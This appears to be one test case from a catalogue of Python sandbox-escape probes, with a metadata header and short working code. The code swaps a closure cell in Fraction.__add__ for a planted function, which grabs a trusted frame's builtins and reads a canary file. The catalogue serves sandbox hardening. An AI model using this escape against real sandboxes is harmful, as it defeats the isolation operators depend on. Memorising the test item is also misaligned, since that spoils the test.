# id: func-closure-cell-write
# family: function-internals
# kind: escape
# invariant: D, E
# origin: found while probing CPython
# technique: cell_contents is writable, so the helper that a trusted method captured is replaced and runs in a trusted frame
# needs: 3.7+
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

from fractions import Fraction


def planted(a, b):
    try:
        raise LookupError
    except LookupError as error:
        trusted = error.__traceback__.tb_frame.f_back
    print(trusted.f_builtins["open"]("canary.txt").read())
    return Fraction(0)


for cell in Fraction.__add__.__closure__:
    if callable(cell.cell_contents):
        cell.cell_contents = planted
Fraction(1) + Fraction(1)
